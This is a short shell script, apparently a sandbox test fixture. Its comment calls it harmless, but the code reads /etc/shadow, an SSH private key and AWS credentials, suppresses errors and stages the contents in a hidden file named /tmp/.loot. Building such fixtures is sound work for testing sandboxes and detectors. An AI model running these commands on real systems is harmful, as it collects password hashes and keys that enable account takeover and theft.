#!/bin/sh
# Harmless: tries to read credential files (absent or empty inside the sandbox) and stage them.
cat /etc/shadow > /tmp/.loot 2>/dev/null
cat ~/.ssh/id_rsa >> /tmp/.loot 2>/dev/null
cat ~/.aws/credentials >> /tmp/.loot 2>/dev/null
exit 0
